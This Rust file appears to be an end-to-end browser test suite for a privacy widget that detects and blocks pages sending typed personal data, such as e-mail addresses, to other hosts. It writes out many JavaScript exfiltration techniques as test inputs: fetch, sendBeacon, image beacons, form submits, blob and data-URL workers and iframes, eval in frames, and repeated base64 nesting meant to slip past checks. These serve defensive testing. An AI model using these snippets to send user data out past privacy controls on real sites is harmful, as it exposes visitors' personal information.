//! Leaks and innocent traffic beyond the usual: unusual ways to make a request, formats of services, other
//! windows' natives, frames.

use crate::egress::{EMAIL, arrived, arrives, elsewhere, page, types_an_address};
use e2e::leaks::{self, Case};
use e2e::matrix::{self, CODES, INNOCENT, WAYS};
use e2e::{Page, Visitor, in_browsers, json};

in_browsers! {
    both {
        requests_in_unusual_ways
        elements_and_navigation
        formats_and_codes
        innocent_traffic
        what_runs_in_a_realm_of_its_own
        a_field_in_a_frame
        a_value_of_a_hundred_kilobytes
        every_way_with_every_code
        every_way_with_what_is_innocent
    }
    chrome {
        one_character_is_nothing
        a_word_of_the_page_is_no_secret
        what_is_nested_too_deep_is_not_checked
        password_managers_are_left_alone
        scripts_of_a_frame
        a_script_cannot_allow
    }
}

/// Fails for each that is not told, or that is.
async fn all_are(visitor: &Visitor, wanted: bool, prefix: &str, cases: &[Case]) {
    leaks::open(visitor, "block").await;
    let told = leaks::told(visitor, prefix, cases).await;
    let wrong: Vec<&str> =
        cases.iter().zip(&told).filter(|(_, told)| **told != wanted).map(|(case, _)| case.name).collect();
    let said = visitor.evaluates("JSON.stringify(events('leak').slice(-3))").await;
    assert!(wrong.is_empty(), "{wrong:?}\n{}", if wanted { json!(arrived(visitor)) } else { said });
    if wanted {
        // Which of them it was, its host says.
        let sent = visitor.site().other.requests().into_iter().filter(|request| request.method != "OPTIONS");
        let sent: Vec<String> =
            sent.map(|request| request.header("host").unwrap_or_default().to_owned()).collect();
        assert!(sent.is_empty(), "{sent:?}");
    }
}

async fn requests_in_unusual_ways(visitor: &Visitor) {
    all_are(visitor, true, "request", leaks::REQUESTS).await;
}

async fn elements_and_navigation(visitor: &Visitor) {
    all_are(visitor, true, "element", leaks::ELEMENTS).await;
}

async fn formats_and_codes(visitor: &Visitor) {
    all_are(visitor, true, "code", leaks::CODES).await;
}

async fn innocent_traffic(visitor: &Visitor) {
    all_are(visitor, false, "harmless", leaks::HARMLESS).await;
}

/// What a realm that no hook reaches is given counts as sent.
async fn what_runs_in_a_realm_of_its_own(visitor: &Visitor) {
    for (act, destination) in [
        (
            "new SharedWorker(URL.createObjectURL(new Blob(['onconnect = () => {}']))).port.postMessage(E)",
            "worker",
        ),
        ("new Worker(URL.createObjectURL(new Blob(['fetch(\"' + X + '?e=' + E + '\")'])))", "worker"),
        ("new Worker('data:text/javascript,fetch(\"' + X + '?e=' + E + '\")')", "worker"),
        (
            "{ const f = document.createElement('iframe'); f.srcdoc = '<script>fetch(\"' + X + '?e=' + E + '\")<' + '/script>'; box().append(f); }",
            "frame",
        ),
        (
            "{ const f = document.createElement('iframe'); f.src = 'data:text/html,' + pct('<script>fetch(\"' + X + '?e=' + E + '\")<' + '/script>'); box().append(f); }",
            "frame",
        ),
        (
            "{ const f = document.createElement('iframe'); f.src = 'data:text/html;base64,' + btoa('<script>fetch(\"' + X + '?e=' + E + '\")<' + '/script>'); box().append(f); }",
            "frame",
        ),
        (
            "{ const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<script>fetch(\"' + X + '?e=' + E + '\")<' + '/script>'], { type: 'text/html' })); box().append(f); }",
            "frame",
        ),
    ] {
        // Each is a cause that nobody has been told of.
        visitor.opens("/privacy-policy.md").await;
        visitor.runs("sessionStorage.clear()").await;
        leaks::open(visitor, "block").await;
        let told = leaks::told(visitor, "realm", &[Case { name: "", act }]).await;
        let said = visitor.evaluates("events('leak').map(event => event.detail.destination)").await;
        assert_eq!(said, json!([format!("{destination}://inline")]), "{act}");
        assert_eq!(told, [true], "{act}");
        assert_eq!(arrived(visitor), Vec::<String>::new(), "{act}");
    }
}

/// The field that a frame of the site's own has.
fn in_frame() -> Page {
    Page::new("<h1>Shop</h1><iframe src=/inner width=500 height=300></iframe>")
        .configured(|config| config["egress"] = json!({ "mode": "block" }))
}

async fn types_in_the_frame(visitor: &Visitor) {
    let form = r#"<form data-privacy-form="public"><label>E-mail <input name="email" type="email"></label><button>Go</button></form>"#;
    visitor.site().page("/inner", Page::new(form).without_widget());
    visitor.site().page("/", in_frame());
    visitor.visits("/").await;
    visitor.runs("privacyWidget.rejectAll()").await;
    visitor.sees("!banner() && !!one('iframe').contentDocument?.querySelector('[name=email]')").await;
    visitor.enters_frame(0).await;
    visitor.types("[name=email]", EMAIL).await;
    visitor.client().clone().enter_parent_frame().await.unwrap();
    leaks::is_watched(visitor).await;
}

async fn a_field_in_a_frame(visitor: &Visitor) {
    types_in_the_frame(visitor).await;
    let send = |name: &str| {
        let address = json!(elsewhere(visitor, name, name));
        format!("fetch({address}, {{ method: 'POST', body: '{EMAIL}' }}).catch(() => {{}})")
    };
    visitor.runs(&send("a")).await;
    visitor.sees("events('leak').length === 1").await;
    visitor.finds("events('leak')[0].detail.kinds", json!(["email"])).await;
    assert_eq!(arrived(visitor), Vec::<String>::new());
    // What is reset or taken away in there is forgotten.
    visitor.runs("one('iframe').contentDocument.querySelector('form').reset()").await;
    visitor.rests().await;
    visitor.runs(&send("b")).await;
    arrives(visitor, "b");
    types_in_the_frame(visitor).await;
    visitor.runs("one('iframe').remove()").await;
    visitor.rests().await;
    visitor.runs(&send("c")).await;
    arrives(visitor, "c");
}

async fn scripts_of_a_frame(visitor: &Visitor) {
    types_in_the_frame(visitor).await;
    let inner = "one('iframe').contentWindow";
    let act = |name: &str, act: &str| {
        let address = json!(elsewhere(visitor, name, name)).to_string();
        format!("const X = {address}, E = '{EMAIL}'; {act}")
    };
    for (at, (name, code)) in [
        ("a", "fetch(X, { method: 'POST', body: E }).catch(() => {})"),
        ("b", "navigator.sendBeacon(X, E)"),
        ("c", "new Image().src = X + '?' + E"),
        ("d", "location.href = X + '?' + E"),
        ("e", "{ const f = document.createElement('form'); f.action = X; f.innerHTML = '<input name=e>'; f.e.value = E; document.body.append(f); f.submit(); }"),
    ]
    .into_iter()
    .enumerate()
    {
        visitor.runs(&format!("{inner}.eval({})", json!(act(name, code)))).await;
        visitor.sees(&format!("events('leak').length === {}", at + 1)).await;
    }
    assert_eq!(arrived(visitor), Vec::<String>::new());
    // The frame's natives look untouched, too.
    visitor
        .finds(
            &format!(
                "[{inner}.fetch.toString(), {inner}.Function.prototype.toString.call({inner}.fetch), {inner}.fetch instanceof {inner}.Function]
                 .map(one => String(one).replace(/\\s+/g, ' '))"
            ),
            json!(["function fetch() { [native code] }", "function fetch() { [native code] }", "true"]),
        )
        .await;
    visitor.runs(&format!("window.patched = {inner}.fetch; privacyWidget.destroy()")).await;
    visitor.finds(&format!("{inner}.fetch === window.patched"), json!(false)).await;
}

async fn a_script_cannot_allow(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    types_an_address(visitor, "/").await;
    let address = json!(elsewhere(visitor, "a", "own"));
    visitor.runs(&format!("fetch({address}, {{ method: 'POST', body: '{EMAIL}' }}).catch(error => window.outcome = error.name)")).await;
    visitor.sees("one('dialog.leak[open]')").await;
    for name in ["Allow once", "Allow for this visit"] {
        visitor.runs(&format!("named('{name}').click()")).await;
        visitor.rests().await;
        visitor.finds("!!one('dialog.leak[open]')", json!(true)).await;
    }
    assert_eq!(arrived(visitor), Vec::<String>::new());
    visitor.presses("Block").await;
    visitor.sees("outcome === 'TypeError'").await;
}

async fn one_character_is_nothing(visitor: &Visitor) {
    visitor.site().page("/", page("block"));
    visitor.visits("/").await;
    visitor.presses("Reject all").await;
    visitor.types("[name=email]", "j").await;
    leaks::is_watched(visitor).await;
    let address = json!(elsewhere(visitor, "a", "one"));
    visitor.runs(&format!("fetch({address} + '?q=j', {{ method: 'POST', body: 'j' }})")).await;
    arrives(visitor, "one");
    visitor.finds("events('leak').length", json!(0)).await;
}

async fn a_value_of_a_hundred_kilobytes(visitor: &Visitor) {
    visitor.site().page("/", page("block"));
    types_an_address(visitor, "/").await;
    visitor
        .runs(
            "window.diary = Array.from({ length: 5000 }, (_, at) => `Line ${at * at} of my diary. `).join('');
             const note = one('[name=note]'); note.value = diary; note.dispatchEvent(new Event('input', { bubbles: true }));",
        )
        .await;
    visitor.finds("diary.length > 100_000", json!(true)).await;
    for (at, (name, body)) in [
        ("a", "diary"),
        ("b", "diary.slice(0, 400)"),
        ("c", "JSON.stringify({ d: btoa(diary.slice(0, 3000)) })"),
    ]
    .into_iter()
    .enumerate()
    {
        let address = json!(elsewhere(visitor, name, name));
        visitor
            .runs(&format!("fetch({address}, {{ method: 'POST', body: {body} }}).catch(() => {{}})"))
            .await;
        visitor.sees(&format!("events('leak').length === {}", at + 1)).await;
        visitor.finds(&format!("events('leak')[{at}].detail.checked"), json!(true)).await;
    }
    assert_eq!(arrived(visitor), Vec::<String>::new());
    let address = json!(elsewhere(visitor, "d", "other"));
    visitor
        .runs(&format!(
            "fetch({address}, {{ method: 'POST', body: 'Nothing of it, but as long: '.repeat(4000) }})"
        ))
        .await;
    arrives(visitor, "other");
}

async fn a_word_of_the_page_is_no_secret(visitor: &Visitor) {
    let form = e2e::fixture("order.html");
    for (path, footer, stopped) in
        [("/silent", "Nothing", true), ("/said", "Write to office@shop.example", false)]
    {
        let body = format!("{form}<footer>{footer}</footer>");
        let page = Page::new(body).configured(|config| config["egress"] = json!({ "mode": "block" }));
        visitor.site().page(path, page);
        visitor.visits(path).await;
        visitor.runs("privacyWidget.rejectAll()").await;
        visitor.sees("!banner()").await;
        visitor.types("[name=email]", "office@shop.example").await;
        leaks::is_watched(visitor).await;
        let address = json!(elsewhere(visitor, "a", "footer"));
        visitor.runs(&format!("fetch({address}, {{ method: 'POST', body: 'office@shop.example' }}).then(() => window.outcome = 'went', () => window.outcome = 'stopped')")).await;
        visitor.sees("window.outcome").await;
        visitor.finds("outcome", json!(if stopped { "stopped" } else { "went" })).await;
    }
}

async fn what_is_nested_too_deep_is_not_checked(visitor: &Visitor) {
    visitor.site().page("/", page("report"));
    types_an_address(visitor, "/").await;
    for (name, layers, checked) in [("a", 3, true), ("b", 12, false)] {
        let address = json!(elsewhere(visitor, name, name));
        visitor.runs(&format!("let body = '{EMAIL}'; for (let i = 0; i < {layers}; i++) body = btoa(body); fetch({address}, {{ method: 'POST', body }})")).await;
        arrives(visitor, name);
        visitor.sees(&format!("events('leak').some(event => event.detail.destination.includes('//{name}.') && event.detail.checked === {checked})")).await;
    }
    visitor.finds("events('leak')[1].detail.why", json!("too-deep")).await;
}

async fn password_managers_are_left_alone(visitor: &Visitor) {
    visitor.site().page("/", page("ask"));
    visitor.visits("/").await;
    visitor.presses("Reject all").await;
    visitor.sees("!banner()").await;
    // It fills the field in from outside, as extensions do.
    visitor
        .evaluates_in_an_extension(&format!(
            "(() => {{ const field = document.querySelector('[name=email]'); field.value = '{EMAIL}';
               for (const type of ['input', 'change']) field.dispatchEvent(new Event(type, {{ bubbles: true }})); }})()"
        ))
        .await;
    leaks::is_watched(visitor).await;
    // What it sends itself is none of the page's doing.
    let own = json!(elsewhere(visitor, "vault", "vault"));
    let went = visitor
        .evaluates_in_an_extension(&format!(
            "fetch({own}, {{ method: 'POST', body: '{EMAIL}' }}).then(() => 'went', error => error.message)"
        ))
        .await;
    assert_eq!(went, json!("went"));
    arrives(visitor, "vault");
    visitor.finds("[events('leak').length, !!modal()]", json!([0, false])).await;
    // What it filled in is the visitor's all the same.
    let page = json!(elsewhere(visitor, "tracker", "tracker"));
    visitor.runs(&format!("fetch({page}, {{ method: 'POST', body: '{EMAIL}' }}).catch(() => {{}})")).await;
    visitor.sees("one('dialog.leak[open]')").await;
    visitor.presses("Block").await;
    assert_eq!(arrived(visitor), ["vault"]);
}

/// The cells of a table that are not as wanted.
fn cells(told: &[Vec<bool>], texts: &[(&str, &str)], wanted: bool) -> Vec<String> {
    let mut wrong = Vec::new();
    for (way, row) in WAYS.iter().zip(told) {
        assert_eq!(row.len(), texts.len());
        let cells = texts.iter().zip(row).filter(|(_, told)| **told != wanted);
        wrong.extend(cells.map(|((text, _), _)| format!("{} × {text}", way.name)));
    }
    wrong
}

async fn every_way_with_every_code(visitor: &Visitor) {
    let told = matrix::told(visitor, "m", CODES).await;
    assert_eq!(cells(&told, CODES, true), Vec::<String>::new());
    assert_eq!(arrived(visitor), Vec::<String>::new());
}

async fn every_way_with_what_is_innocent(visitor: &Visitor) {
    let ways = matrix::told(visitor, "n", INNOCENT).await;
    assert_eq!(cells(&ways, INNOCENT, false), Vec::<String>::new());
}
